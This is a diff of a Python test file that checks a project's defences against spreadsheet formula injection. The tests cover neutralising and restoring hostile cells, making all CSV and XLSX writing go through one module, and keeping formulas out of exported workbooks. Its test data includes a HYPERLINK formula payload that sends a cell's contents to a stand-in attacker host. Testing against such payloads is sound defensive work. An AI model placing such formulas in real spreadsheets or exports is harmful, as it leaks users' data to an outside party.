@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import ast
 import csv
 import io
 from pathlib import Path
@@ -13,10 +14,10 @@ from click.testing import CliRunner
 from openpyxl import load_workbook
 
 from hysem_assets.cli import main
-from hysem_assets.core.spreadsheets import csv_text, inert
+from hysem_assets.core.spreadsheets import csv_text, inert, restored, write_xlsx
 from hysem_assets.library.exports import bibtex
-from hysem_assets.review.evidence import write_xlsx
 from hysem_assets_tests.library.corpus import sample_corpus
+from hysem_assets_tests.paths import PROJECT_ROOT
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -39,6 +40,59 @@ def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
     assert inert(value) == value
 
 
+@pytest.mark.parametrize("value", [*HOSTILE, "'" + HOSTILE[0], "''=1", "'plain", "-0.5", "Plain", 3, None])
+def test_what_inert_writes_is_restored_exactly(value: object) -> None:
+    assert restored(inert(value)) == value
+
+
+#: Where a file for a spreadsheet may be written: the one module that keeps its cells inert.
+SPREADSHEETS = Path("hysem_assets/core/spreadsheets.py")
+#: Calls that write CSV, TSV or XLSX, and the modules that write spreadsheets.
+WRITER_METHODS = {"to_csv", "to_excel", "ExcelWriter"}
+CSV_WRITERS = {"writer", "DictWriter"}
+SPREADSHEET_MODULES = ("openpyxl", "xlsxwriter", "odf", "pyexcel")
+
+
+def spreadsheet_writers(source: str) -> list[str]:
+    """The lines of ``source`` that write a spreadsheet file themselves."""
+    found = []
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Attribute) and node.attr in WRITER_METHODS:
+            found.append(f"line {node.lineno}: .{node.attr}")
+        elif isinstance(node, ast.Attribute) and node.attr in CSV_WRITERS and getattr(node.value, "id", "") == "csv":
+            found.append(f"line {node.lineno}: csv.{node.attr}")
+        elif isinstance(node, ast.ImportFrom) and node.module == "csv" and {a.name for a in node.names} & CSV_WRITERS:
+            found.append(f"line {node.lineno}: from csv import a writer")
+        elif isinstance(node, (ast.Import, ast.ImportFrom)):
+            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
+            found += [f"line {node.lineno}: import {m}" for m in modules if m.split(".")[0] in SPREADSHEET_MODULES]
+    return found
+
+
+def test_every_spreadsheet_writer_goes_through_core_spreadsheets() -> None:
+    offenders = {
+        str(path.relative_to(PROJECT_ROOT)): lines
+        for path in sorted((PROJECT_ROOT / "hysem_assets").rglob("*.py"))
+        if path.relative_to(PROJECT_ROOT) != SPREADSHEETS
+        and (lines := spreadsheet_writers(path.read_text(encoding="utf-8")))
+    }
+    assert offenders == {}, "write CSV, TSV and XLSX through hysem_assets.core.spreadsheets"
+
+
+def test_the_writer_scan_finds_each_way_of_writing_a_spreadsheet() -> None:
+    for source in (
+        "frame.to_csv(path)",
+        "frame.to_excel(path)",
+        "pd.ExcelWriter(path)",
+        "csv.writer(file).writerows(rows)",
+        "from csv import DictWriter",
+        "from openpyxl import Workbook",
+        "import openpyxl.styles",
+    ):
+        assert spreadsheet_writers(source), source
+    assert spreadsheet_writers("csv.reader(file)\nwrite_csv(frame, path)\nfrom csv import reader") == []
+
+
 def table() -> pd.DataFrame:
     return pd.DataFrame(
         {"title": [*HOSTILE, "Plain title"], "sample_size": [-1, 2, 3, 4, 5, 6, 7, 8], "effect": [-0.5] * 8}
@@ -54,7 +108,7 @@ def test_csv_and_tsv_cells_are_inert_and_numbers_stay_numbers() -> None:
 
 def test_xlsx_holds_no_formula_and_keeps_every_value_as_given(tmp_path: Path) -> None:
     path = tmp_path / "evidence_table.xlsx"
-    write_xlsx(table(), path)
+    write_xlsx(table(), path, "Evidence")
     sheet = load_workbook(path).active
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert all(cell.data_type != "f" for cell in cells)
